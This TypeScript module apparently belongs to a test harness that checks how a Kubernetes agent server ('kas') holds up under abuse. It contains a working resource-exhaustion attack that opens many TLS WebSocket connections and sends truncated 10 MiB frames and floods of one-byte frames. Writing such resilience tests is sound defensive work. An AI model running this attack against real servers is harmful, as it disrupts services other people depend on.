import { once } from 'node:events'
import type { TLSSocket } from 'node:tls'
import { abortable } from '../../../src/lib/signals.ts'
import type { Attack } from '../attack.ts'
import { dial } from '../stage.ts'

interface Size {
  readonly connections: number
}

/** the longest message that kas accepts */
const messageBytes = 10 * 1024 * 1024
/** more than kas lets wait unread */
const tinyMessages = 300_000

/** Bytes that HTTP/2 reads and ignores: the preface, SETTINGS, frames of an unknown type. */
function payload(): Buffer {
  const frame = (type: number, bytes: number) =>
    Buffer.concat([Buffer.of(0, bytes >> 8, bytes & 255, type, 0, 0, 0, 0, 0), Buffer.alloc(bytes)])
  const unknown = frame(0xfa, 16 * 1024 - 9)
  const frames = Array.from({ length: Math.ceil(messageBytes / unknown.length) }, () => unknown)
  return Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(4, 0), ...frames], messageBytes)
}

/** Messages of one byte, masked by zero, with SETTINGS: each has to be answered before the next is read. */
function tiny(): Buffer {
  const bytes = Buffer.alloc(7 * tinyMessages)
  const settings = Buffer.of(0, 0, 0, 4, 0, 0, 0, 0, 0)
  for (let i = 0; i < tinyMessages; i++) {
    bytes.writeUInt16BE(0x8281, 7 * i)
    bytes[7 * i + 6] = settings[i % settings.length] as number
  }
  const preface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n')
  return Buffer.concat([Buffer.of(0x82, 0x80 | preface.length, 0, 0, 0, 0), preface, bytes])
}

const upgrade = [
  'GET /-/kubernetes-agent/ HTTP/1.1',
  'Host: kas',
  'Connection: Upgrade',
  'Upgrade: websocket',
  'Sec-WebSocket-Version: 13',
  'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==',
  'Sec-WebSocket-Protocol: ws-tunnel',
  '\r\n',
].join('\r\n')

export const halfWebSockets: Attack<Size> = {
  name: 'half-websockets',
  what: 'WebSocket messages of strangers: long ones, each without its last byte, and many of one byte',
  bounds: { slowdown: 3, moreMib: 80 },
  cheap: { connections: 16 },
  full: { connections: 60 },
  async play(stage, { connections }, signal) {
    const sockets: TLSSocket[] = []
    const head = Buffer.alloc(14) // masked, by zero
    head[0] = 0x82
    head[1] = 0xff
    head.writeBigUInt64BE(BigInt(messageBytes), 2)
    const sent = [Buffer.concat([head, payload().subarray(0, -1)]), tiny()]
    for (let i = 0; i < 2 * connections; i++) {
      const socket = dial(stage.ca, stage.holder.agents, ['http/1.1'])
      sockets.push(socket)
      await once(socket, 'secureConnect', { signal })
      const closed = new Promise<void>((resolve) => socket.once('close', () => resolve()))
      socket.on('error', () => undefined) // a reset, which ends in 'close'
      socket.write(upgrade)
      await abortable(Promise.race([new Promise((resolve) => socket.once('data', resolve)), closed]), signal)
      await abortable(
        Promise.race([new Promise((resolve) => socket.write(sent[i % 2] as Buffer, resolve)), closed]),
        signal,
      )
    }
    return { refusal: '', end: async () => sockets.forEach((socket) => void socket.destroy()) }
  },
}
